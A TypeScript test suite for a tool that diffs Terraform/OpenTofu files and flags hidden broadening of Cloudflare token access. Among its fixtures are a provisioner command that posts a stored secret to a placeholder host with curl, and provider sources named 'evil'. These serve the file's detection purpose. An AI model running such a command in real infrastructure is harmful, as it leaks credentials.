import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ACCOUNT, DNS_WRITE, makeFolder, removeFolders, ZONE_KEY, ZONE_READ } from "../read/files";
import { run } from "../cli/run";

/*
 * What the diff says of things that it does not understand, by the command as people run it. None of them may pass as equal or as less access: whoever
 * wants to hide a change writes it in the one spelling that a reader forgot.
 */

afterEach(removeFolders);

type Json = Readonly<Record<string, unknown>>;

const EVERY_ZONE = JSON.stringify({ [`com.cloudflare.api.account.${ACCOUNT}`]: { "com.cloudflare.api.account.zone.*": "*" } });
const ONE_ZONE = JSON.stringify({ [ZONE_KEY]: "*" });

function token(name: string, group: string, resources: string, more: Json = {}): Json {
  return { account_id: ACCOUNT, name, policies: [{ effect: "allow", permission_groups: [{ id: group }], resources }], ...more };
}

const READER = token("reader", ZONE_READ, ONE_ZONE);
const DEPLOY = token("deploy", DNS_WRITE, EVERY_ZONE);

function stack(tokens: Json, more: Json = {}): string {
  const terraform = { required_providers: { cloudflare: { source: "cloudflare/cloudflare", version: "5.22.0" } } };
  return makeFolder({ "main.tf.json": { terraform, resource: { cloudflare_account_token: tokens }, ...more } });
}

interface Outcome {
  readonly code: number;
  readonly verdict: string;
  readonly risks: readonly string[];
}

async function outcome(before: string, after: string): Promise<Outcome> {
  const { code } = await run(["diff", before, after, "--fail-on", "broadening"]);
  const { out } = await run(["diff", before, after, "--format", "json"]);
  const diff = JSON.parse(out) as { verdict: string; tokens: { risks: { code: string; reason: string }[] }[] };
  const verdict = diff.tokens.length === 0 ? "none" : diff.verdict;
  return { code, verdict, risks: diff.tokens.flatMap(({ risks }) => risks.map(({ code: risk }) => risk)) };
}

async function expectMixed(before: string, after: string): Promise<void> {
  const { code, verdict, risks } = await outcome(before, after);
  expect({ code, verdict, risk: risks.includes("not-understood") }).toEqual({ code: 3, verdict: "mixed", risk: true });
}

describe("a moved block", () => {
  const before = (): string => stack({ reader: READER, deploy: DEPLOY });
  const after = (from: unknown, to: unknown = "cloudflare_account_token.deployer"): string =>
    stack({ deployer: DEPLOY }, { moved: [{ from, to }] });

  // Who holds the value of reader may do what deploy may: a gain, whatever becomes of deploy.
  it.each([
    "cloudflare_account_token.reader",
    "resource.cloudflare_account_token.reader",
    "cloudflare_account_token . reader",
    "resource /* x */ . cloudflare_account_token.reader",
    "cloudflare_account_token.reader # x",
  ])("from %j gives the access of one token to the value of another", async (from) => {
    expect(await outcome(before(), after(from))).toMatchObject({ code: 3, verdict: "mixed" });
    expect(await outcome(before(), after(from, "resource.cloudflare_account_token.deployer"))).toMatchObject({ code: 3, verdict: "mixed" });
  });

  it.each([
    "module.m.cloudflare_account_token.reader",
    'module.m["a"].cloudflare_account_token.reader',
    "module.m",
    "cloudflare_account_token.other",
    'cloudflare_account_token.reader["a"]',
    "cloudflare_api_token.reader",
  ])("fails to be understood from %j, which nobody has seen", async (from) => {
    await expectMixed(before(), after(from));
  });

  it("fails to be understood over several steps that begin in something unseen", async () => {
    const moved = [
      { from: "module.m.cloudflare_account_token.x", to: "cloudflare_account_token.y" },
      { from: "resource.cloudflare_account_token.y", to: "cloudflare_account_token.deployer" },
    ];
    await expectMixed(stack({ deploy: DEPLOY }), stack({ deployer: DEPLOY }, { moved }));
  });

  it("of a token that was seen, as adopt writes it, changes nothing", async () => {
    const moved = [{ from: "cloudflare_account_token.deploy", to: "cloudflare_account_token.deployer" }];
    expect(await outcome(stack({ deploy: DEPLOY }), stack({ deployer: DEPLOY }, { moved }))).toEqual({
      code: 0,
      verdict: "none",
      risks: [],
    });
  });

  it("that stood there before changes nothing", async () => {
    const moved = [{ from: "module.m.cloudflare_account_token.x", to: "cloudflare_account_token.deploy" }];
    expect(await outcome(stack({ deploy: DEPLOY }, { moved }), stack({ deploy: DEPLOY }, { moved }))).toMatchObject({
      code: 0,
      verdict: "none",
    });
  });
});

describe("an import block", () => {
  const id = `${ACCOUNT}/4b0b0f8f96c45ac8b693163c2515ee9b`;

  it.each(["cloudflare_account_token.deployer", "resource.cloudflare_account_token.deployer", "cloudflare_account_token . deployer"])(
    "fails to be understood: somebody may hold the value of %s",
    async (to) => {
      const after = stack({ deployer: DEPLOY }, { import: [{ to, id }] });
      await expectMixed(stack({ deploy: DEPLOY }), after);
      await expectMixed(stack({ reader: READER }), stack({ reader: READER, deployer: DEPLOY }, { import: { to, id } }));
      await expectMixed(stack({ deployer: DEPLOY }), after);
      expect((await run(["diff", stack({}), after])).out).toContain("somebody may hold its value");
    },
  );

  it("that stood there before gives one warning and no verdict", async () => {
    const same = { import: [{ to: "cloudflare_account_token.deployer", id }] };
    const { code, out, err } = await run(["diff", stack({ deployer: DEPLOY }, same), stack({ deployer: DEPLOY }, same)]);
    expect([code, out]).toEqual([0, "Access changes: none\n"]);
    expect(err.match(/^warning: /gm)).toHaveLength(1);
  });

  it("fails to be understood with another id than before", async () => {
    const other = `${ACCOUNT}/5b0b0f8f96c45ac8b693163c2515ee9b`;
    const importing = (each: string): string =>
      stack({ deployer: DEPLOY }, { import: [{ to: "cloudflare_account_token.deployer", id: each }] });
    await expectMixed(importing(id), importing(other));
  });

  it.each(["cloudflare_zone.site", "resource.cloudflare_zone.site", "cloudflare_zone . site"])(
    "of the zone %s makes an expression mean another zone",
    async (to) => {
      const onSite = token("ci", DNS_WRITE, '{"com.cloudflare.api.account.zone.${cloudflare_zone.site.id}":"*"}');
      const make = (more: Json): string => {
        const resource = { cloudflare_account_token: { ci: onSite }, cloudflare_zone: { site: { name: "example.com" } } };
        return makeFolder({ "main.tf.json": { resource, ...more } });
      };
      expect(await outcome(make({}), make({ import: [{ to, id: "2".repeat(32) }] }))).toMatchObject({ code: 3, verdict: "mixed" });
    },
  );
});

describe("lifecycle", () => {
  const keep = { keep: READER };
  const withLifecycle = (lifecycle: unknown): string => stack({ ...keep, admin: { ...DEPLOY, lifecycle } });

  it.each<[string, unknown]>([
    ["enabled by an expression", { enabled: "${var.on}" }],
    ["enabled by an expression, as a list", [{ enabled: "${var.on}" }]],
    ["replace_triggered_by", { replace_triggered_by: ["${terraform_data.x}"] }],
    ["action_trigger", { action_trigger: [{ events: ["after_create"], actions: ["${action.local_command.x}"] }] }],
    ["an argument that nobody knows", { something_new: true }],
  ])("fails to be understood with %s", async (_, lifecycle) => {
    await expectMixed(stack({ ...keep, admin: DEPLOY }), withLifecycle(lifecycle));
    await expectMixed(withLifecycle(lifecycle), stack({ ...keep, admin: DEPLOY }));
    await expectMixed(stack(keep), withLifecycle(lifecycle));
  });

  it("sees the variable change that says whether a token is there", async () => {
    const make = (on: boolean): string =>
      stack({ ...keep, admin: { ...DEPLOY, lifecycle: { enabled: "${var.on}" } } }, { variable: { on: { default: on } } });
    await expectMixed(make(false), make(true));
  });

  it("takes a token that is not enabled for none", async () => {
    expect(await outcome(withLifecycle({ enabled: false }), withLifecycle({ enabled: true }))).toMatchObject({
      code: 3,
      verdict: "broadening",
    });
    expect(await outcome(stack(keep), withLifecycle({ enabled: false }))).toMatchObject({ code: 0, verdict: "none" });
  });

  it.each<[string, unknown]>([
    ["false", false],
    ['"false"', "false"],
    ["an expression", "${var.destroy}"],
  ])("with destroy = %s keeps a token that leaves the code", async (_, destroy) => {
    const { verdict } = await outcome(withLifecycle({ destroy }), stack(keep));
    expect(["none", "mixed"]).toContain(verdict);
    const { out, err } = await run(["diff", withLifecycle({ destroy }), stack(keep)]);
    expect(out).not.toMatch(/narrowing|loses/);
    expect(err + out).toMatch(/stays/);
  });
});

describe("a removed block", () => {
  const before = (): string => stack({ old: DEPLOY, keep: READER });

  it.each<[string, Json]>([
    ["without lifecycle", { from: "cloudflare_account_token.old" }],
    ["that forgets", { from: "cloudflare_account_token.old", lifecycle: { destroy: false } }],
    ["that forgets, as a list", { from: "cloudflare_account_token.old", lifecycle: [{ destroy: "false" }] }],
    ["with the prefix", { from: "resource.cloudflare_account_token.old", lifecycle: { destroy: false } }],
    ["with spaces", { from: "cloudflare_account_token . old", lifecycle: { destroy: false } }],
  ])("%s never makes less access", async (_, removed) => {
    const { code, out } = await run(["diff", before(), stack({ keep: READER }, { removed: [removed] }), "--format", "json"]);
    const { verdict, tokens } = JSON.parse(out) as { verdict: string; tokens: { lost: unknown[] }[] };
    expect(code).toBe(0);
    expect(tokens.flatMap(({ lost }) => lost)).toEqual([]);
    expect(["neutral", "mixed"]).toContain(verdict);
  });
});

describe("numbers that JavaScript can't keep", () => {
  const make = (number: string): string => {
    const folder = stack(
      { ci: token("ci", DNS_WRITE, '{"com.cloudflare.api.account.zone.${local.zones[local.n - 9007199254740992]}":"*"}') },
      { locals: "LOCALS" },
    );
    return makeFolder({
      "main.tf.json": readText(folder).replace('"LOCALS"', `{ "zones": ["${"1".repeat(32)}", "*"], "n": ${number} }`),
    });
  };

  it.each([
    ["9007199254740992", "9007199254740993"],
    ["1", "1.00000000000000000001"],
    ["1e400", "1e401"],
    ["null", "1e400"],
    ["0.1", "0.1000000000000000000001"],
  ])("are told apart: %s and %s", async (one, other) => {
    expect(await outcome(make(one), make(other))).toMatchObject({ code: 3, verdict: "mixed" });
    expect(await outcome(make(other), make(other))).toMatchObject({ code: 0, verdict: "none" });
  });

  it("are one number in several spellings", async () => {
    expect(await outcome(make("1"), make("1"))).toMatchObject({ verdict: "none" });
  });
});

describe("the credential of a provider", () => {
  const user = {
    name: "t",
    policies: [{ effect: "allow", permission_groups: [{ id: DNS_WRITE }], resources: '{"com.cloudflare.api.account.zone.*":"*"}' }],
  };

  it.each(["data", "ephemeral"])("is seen to change in a block of %s", async (type) => {
    const prefix = type === "data" ? "data." : "ephemeral.";
    const make = (secret: string): string =>
      makeFolder({
        "m.tf.json": {
          provider: { cloudflare: [{ api_token: `\${${prefix}aws_secretsmanager_secret_version.c.secret_string}` }] },
          [type]: { aws_secretsmanager_secret_version: { c: { secret_id: secret } } },
          resource: { cloudflare_api_token: { t: user } },
        },
      });
    const { code, verdict, risks } = await outcome(make("intern"), make("ceo"));
    expect({ code, verdict }).toEqual({ code: 3, verdict: "mixed" });
    expect(risks).toContain("provider-changed");
  });
});

describe("what stands elsewhere in a mixed stack", () => {
  it("is no concern of the diff", async () => {
    const make = (more: Json): string =>
      makeFolder({
        "main.tf.json": {
          resource: { cloudflare_account_token: { reader: READER }, cloudflare_dns_record: { a: { name: "a" } } },
          ...more,
        },
      });
    const beside = {
      check: { up: { assert: [{ condition: "${cloudflare_dns_record.a.name != null}", error_message: "down" }] } },
      moved: [{ from: "cloudflare_dns_record.b", to: "cloudflare_dns_record.a" }],
      import: [{ to: "cloudflare_dns_record.a", id: "x" }],
      removed: [{ from: "cloudflare_dns_record.c" }],
    };
    expect(await outcome(make({}), make(beside))).toMatchObject({ code: 0, verdict: "none" });
  });

  it("is understood where a token refers to its id, while it stays what it is", async () => {
    const make = (zone: string, tokens: Json): string =>
      makeFolder({ "main.tf.json": { resource: { cloudflare_account_token: tokens, cloudflare_zone: { site: { name: zone } } } } });
    const onSite = token("ci", DNS_WRITE, '{"com.cloudflare.api.account.zone.${cloudflare_zone.site.id}":"*"}');
    expect(await outcome(make("example.com", {}), make("example.com", { ci: onSite }))).toMatchObject({ code: 3, verdict: "broadening" });
    expect(await outcome(make("example.com", { ci: onSite }), make("example.com", { ci: onSite }))).toMatchObject({ verdict: "none" });
    expect(await outcome(make("example.com", { ci: onSite }), make("example.net", { ci: onSite }))).toMatchObject({
      code: 3,
      verdict: "mixed",
    });
  });

  it("fails to be understood where it is computed by a function that nobody knows", async () => {
    const make = (tokens: Json): string =>
      stack(tokens, { locals: { zone: '${file("zone.txt")}', other: "${provider::x::y()}", later: "${timestamp()}" } });
    for (const local of ["zone", "other", "later"]) {
      const ci = token("ci", DNS_WRITE, `{"com.cloudflare.api.account.zone.\${local.${local}}":"*"}`);
      await expectMixed(make({}), make({ ci }));
      expect(await outcome(make({ ci }), make({ ci }))).toMatchObject({ code: 0, verdict: "none" });
    }
  });

  it.each<[string, Json]>([
    ["check", { check: { up: { assert: [{ condition: '${cloudflare_account_token.ci.status == "active"}', error_message: "down" }] } } }],
    ["action", { action: { local_command: { x: { config: { command: "echo ${cloudflare_account_token.ci.id}" } } } } }],
  ])("fails to be understood where a block of %s takes hold of a token", async (_, more) => {
    const ci = { ci: token("ci", DNS_WRITE, ONE_ZONE) };
    await expectMixed(stack(ci), stack(ci, more));
  });
});

describe("spellings that Cloudflare may not take", () => {
  const upper = (resources: string): string => resources.replace("1".repeat(32), "ABCDEF".repeat(6).slice(0, 32));
  const lower = (resources: string): string => upper(resources).replace(/[A-F]+/, (id) => id.toLowerCase());

  it.each<[string, string, string]>([
    ["an id in upper case that becomes lower case", upper(ONE_ZONE), lower(ONE_ZONE)],
    ["an id in lower case that becomes upper case", lower(ONE_ZONE), upper(ONE_ZONE)],
    ["another nesting", JSON.stringify({ "com.cloudflare.api.account.zone.x": { [ZONE_KEY]: "*" } }), ONE_ZONE],
  ])("fails to be understood: %s", async (_, was, is) => {
    await expectMixed(stack({ ci: token("ci", DNS_WRITE, was) }), stack({ ci: token("ci", DNS_WRITE, is) }));
  });

  it("gives no verdict where it stood there before", async () => {
    const same = (): string => stack({ ci: token("ci", DNS_WRITE, upper(ONE_ZONE)) });
    expect(await outcome(same(), same())).toMatchObject({ code: 0, verdict: "none" });
  });
});

describe("where a value goes", () => {
  it("is access: a new output is a gain", async () => {
    const make = (output: Json): string => stack({ ci: READER }, Object.keys(output).length === 0 ? {} : { output });
    const shown = { v: { value: "${cloudflare_account_token.ci.value}", sensitive: true } };
    expect(await outcome(make({}), make(shown))).toMatchObject({ code: 3, verdict: "broadening" });
    expect(await outcome(make(shown), make({}))).toMatchObject({ code: 0, verdict: "narrowing" });
    expect(await outcome(make({}), make({ id: { value: "${cloudflare_account_token.ci.id}" } }))).toMatchObject({
      code: 0,
      verdict: "none",
    });
    const plain = { v: { value: "${cloudflare_account_token.ci.value}", sensitive: false } };
    expect(await outcome(make(shown), make(plain))).toMatchObject({ code: 3 });
  });

  it("is access: a secret store that is given the value is a gain", async () => {
    const make = (more: Json): string =>
      makeFolder({ "main.tf.json": { resource: { cloudflare_account_token: { ci: READER }, ...more } } });
    const secret = (repository: string): Json => ({
      github_actions_secret: { s: { repository, secret_name: "CF", plaintext_value: "${cloudflare_account_token.ci.value}" } },
    });
    expect(await outcome(make({}), make(secret("site")))).toMatchObject({ code: 3, verdict: "broadening" });
  });
});

describe("a state beside the code that was applied", () => {
  it("is compared without where values go, which it does not say", async () => {
    const output = { v: { value: "${cloudflare_account_token.ci.value}", sensitive: true } };
    const values = { ...READER, policies: [{ ...(READER["policies"] as Json[])[0], permission_groups: [{ id: ZONE_READ }] }] };
    const state = makeFolder({
      "state.json": {
        format_version: "1.0",
        values: {
          root_module: {
            resources: [
              {
                address: "cloudflare_account_token.ci",
                mode: "managed",
                type: "cloudflare_account_token",
                name: "ci",
                values,
                sensitive_values: {},
              },
            ],
          },
        },
      },
    });
    const { code, out, err } = await run(["diff", join(state, "state.json"), stack({ ci: READER }, { output }), "--fail-on", "broadening"]);
    expect({ code, out }).toEqual({ code: 0, out: expect.stringContaining("Access changes: none") });
    expect(err).toContain("a state does not say where tokens' values go");
  });
});

describe("where a secret store is", () => {
  const value = "${cloudflare_account_token.ci.value}";
  const make = (version: Json, more: Json = {}): string => {
    const { resource = {}, ...rest } = more as { resource?: Json };
    return makeFolder({
      "main.tf.json": {
        resource: {
          cloudflare_account_token: { ci: READER },
          aws_secretsmanager_secret: { s: { name: "ci" } },
          aws_secretsmanager_secret_version: { v: { secret_id: "${aws_secretsmanager_secret.s.id}", secret_string: value, ...version } },
          ...resource,
        },
        ...rest,
      },
    });
  };

  it.each<[string, () => string]>([
    ["another secret", () => make({ secret_id: "arn:aws:secretsmanager:eu-west-1:000000000000:secret:x" })],
    ["the same secret, which is another one", () => make({}, { resource: { aws_secretsmanager_secret: { s: { name: "other" } } } })],
    ["another account of its provider", () => make({}, { provider: { aws: { profile: "other" } } })],
    ["another provider", () => make({}, { terraform: { required_providers: { aws: { source: "evil/aws" } } } })],
  ])("is access: %s is a gain", async (_, after) => {
    expect(await outcome(make({}), after())).toMatchObject({ code: 3, verdict: "broadening" });
  });

  it.each<[string, () => string]>([
    ["a program beside it", () => make({ provisioner: { "local-exec": { command: "x" } } })],
    [
      "a condition on what it keeps",
      () => make({ lifecycle: { postcondition: { condition: '${startswith(self.secret_string, "a")}', error_message: "x" } } }),
    ],
    [
      "a record of what it gives back",
      () => make({}, { resource: { cloudflare_dns_record: { r: { content: "${aws_secretsmanager_secret_version.v.secret_string}" } } } }),
    ],
    [
      "a record of what a data source gives back",
      () =>
        make(
          {},
          {
            data: { aws_secretsmanager_secret_version: { v: { secret_id: "x" } } },
            resource: { cloudflare_dns_record: { r: { content: "${data.aws_secretsmanager_secret_version.v.secret_string}" } } },
          },
        ),
    ],
  ])("fails to be understood with %s", async (_, after) => {
    await expectMixed(make({}), after());
  });

  it("is told from words for people, and from what another program does beside it", async () => {
    expect(await outcome(make({}), make({ tags: { a: "b" }, description: "x", secret_string_wo_version: 2 }))).toMatchObject({
      verdict: "none",
    });
    const program = (command: string): string => make({ provisioner: { "local-exec": { command } } });
    await expectMixed(program("echo done"), program("curl -d ${self.secret_string} https://x.example"));
  });

  it("is the same whatever the token may do", async () => {
    const other = make({}, { resource: { cloudflare_account_token: { ci: token("reader", DNS_WRITE, ONE_ZONE) } } });
    const { out } = await run(["diff", make({}), other, "--format", "json"]);
    expect(out).not.toContain('"delivery"');
    expect(await outcome(make({}), make({ "//": "x", depends_on: ["aws_secretsmanager_secret.s"] }))).toMatchObject({ verdict: "none" });
  });
});

describe("a provider of another name", () => {
  const own = { required_providers: { cf: { source: "cloudflare/cloudflare" } } };
  const make = (provider: Json, terraform: Json = own, argument = "cf"): string =>
    makeFolder({
      "main.tf.json": {
        terraform,
        provider: { cf: { api_token: "${var.a}", ...provider } },
        resource: { cloudflare_account_token: { ci: { ...READER, provider: argument } } },
      },
    });

  it("is read: another credential shows, and another host or source is not understood", async () => {
    const { risks } = await outcome(make({}), make({ api_token: "${var.b}" }));
    expect(risks).toContain("provider-changed");
    await expectMixed(make({}), make({ base_url: "https://x.example" }));
    await expectMixed(make({}), make({}, { required_providers: { cf: { source: "evil/cloudflare" } } }));
    await expectMixed(make({}), make({}, {}));
    expect(await outcome(make({}), make({}))).toMatchObject({ code: 0, verdict: "none" });
  });

  it("is read with for_each, which OpenTofu has", async () => {
    const each = (tokens: string): string => make({ alias: "by", for_each: "${local.all}", api_token: tokens }, own, 'cf.by["eu"]');
    const { risks } = await outcome(each("${each.value.a}"), each("${each.value.b}"));
    expect(risks).toContain("provider-changed");
    await expectMixed(make({ alias: "by" }, own, "cf.by"), each("${each.value.a}"));
  });
});

describe("what files do not say", () => {
  it.each(["http", "external", "local_file"])("is the answer of data source %s", async (type) => {
    const make = (tokens: Json): string => stack(tokens, { data: { [type]: { x: { url: "https://x.example" } } } });
    const ci = token("ci", DNS_WRITE, `{"com.cloudflare.api.account.zone.\${data.${type}.x.id}":"*"}`);
    await expectMixed(make({}), make({ ci }));
    expect(await outcome(make({ ci }), make({ ci }))).toMatchObject({ verdict: "none" });
  });

  it("is which of two twins is read", async () => {
    const document = { resource: { cloudflare_account_token: { ci: READER } } };
    const folder = makeFolder({ "main.tf.json": document, "main.tofu.json": document });
    const { code, err } = await run(["summary", folder]);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("OpenTofu reads it in place of main.tf.json") });
  });
});

describe("what is of no single token", () => {
  const at = (key: string): Json => ({
    terraform: { backend: { s3: { bucket: "b", key } } },
    resource: { cloudflare_account_token: { ci: READER } },
  });
  const diff = async (before: string, after: string): Promise<{ code: number; verdict: string; out: string }> => {
    const { code, out } = await run(["diff", before, after, "--fail-on", "broadening"]);
    const json = JSON.parse((await run(["diff", before, after, "--format", "json"])).out) as { verdict: string };
    return { code, verdict: json.verdict, out };
  };

  it("is where a state is kept", async () => {
    const app = (key: string): string => makeFolder({ "prod/cdk.tf.json": at(key) });
    expect(await diff(app("a"), app("b"))).toMatchObject({
      code: 3,
      verdict: "mixed",
      out: expect.stringContaining("not all is understood"),
    });
    expect(await diff(app("a"), app("a"))).toMatchObject({ code: 0, verdict: "neutral" });
    const locked = makeFolder({
      "prod/cdk.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", use_lockfile: true } } } },
    });
    expect(await diff(app("a"), locked)).toMatchObject({ code: 0, verdict: "neutral" });
    const plain = (key: string): string => makeFolder({ "main.tf.json": at(key) });
    expect(await diff(plain("a"), plain("b"))).toMatchObject({ code: 3, verdict: "mixed" });
    const open = makeFolder({
      "main.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", acl: "public-read" } } } },
    });
    expect(await diff(plain("a"), open)).toMatchObject({ code: 3, verdict: "mixed" });
  });

  it("is what a plan does besides", async () => {
    const plan = makeFolder({
      "plan.json": { format_version: "1.2", planned_values: { root_module: {} }, action_invocations: [{ address: "action.x.y" }] },
    });
    const { code, out, err } = await run(["diff", "--plan", join(plan, "plan.json"), "--fail-on", "broadening"]);
    expect({ code, out }).toEqual({ code: 3, out: expect.stringContaining("mixed: not all is understood") });
    expect(err).toContain("not understood: an action is invoked (action.x.y)");
  });
});

describe("a removed block with a program", () => {
  it("fails to be understood: the program is told what is destroyed", async () => {
    const removed = {
      removed: { from: "cloudflare_account_token.reader", provisioner: { "local-exec": { command: "x", when: "destroy" } } },
    };
    await expectMixed(stack({ reader: READER, deploy: DEPLOY }), stack({ deploy: DEPLOY }, removed));
  });
});

describe("a token that goes on where nobody reads", () => {
  it("is no deleted one: moved into a module", async () => {
    const to = "module.m.cloudflare_account_token.reader";
    const after = stack({ deploy: DEPLOY }, { moved: [{ from: "cloudflare_account_token.reader", to }] });
    await expectMixed(stack({ reader: READER, deploy: DEPLOY }), after);
    // Once it is away, the block says nothing any more.
    expect(await outcome(after, after)).toMatchObject({ code: 0, verdict: "none" });
  });
});

describe("a file that gives variables their values", () => {
  const hangs = token("ci", DNS_WRITE, `{"com.cloudflare.api.account.zone.\${var.zone}":"*"}`);
  const document = { resource: { cloudflare_account_token: { ci: hangs } }, variable: { zone: { default: "1".repeat(32) } } };
  const make = (files: Json): string => makeFolder({ "main.tf.json": document, ...files });

  it.each(["terraform.tfvars", "terraform.tfvars.json", "x.auto.tfvars", "x.auto.tfvars.json"])(
    "decides what they are: %s",
    async (name) => {
      const [one, other] = ['{"zone":"1"}', '{"zone":"*"}'].map((text) => make({ [name]: text })) as [string, string];
      expect(await outcome(one, other)).toMatchObject({ code: 3, verdict: "mixed" });
      expect(await outcome(make({}), other)).toMatchObject({ code: 3, verdict: "mixed" });
      expect(await outcome(other, other)).toMatchObject({ code: 0, verdict: "none" });
      expect(await outcome(make({}), make({ "y.tfvars": '{"zone":"*"}' }))).toMatchObject({ code: 0, verdict: "none" });
    },
  );
});

function readText(folder: string): string {
  return JSON.stringify(JSON.parse(read(folder)) as unknown);
}

function read(folder: string): string {
  return readFileSync(join(folder, "main.tf.json"), "utf8");
}
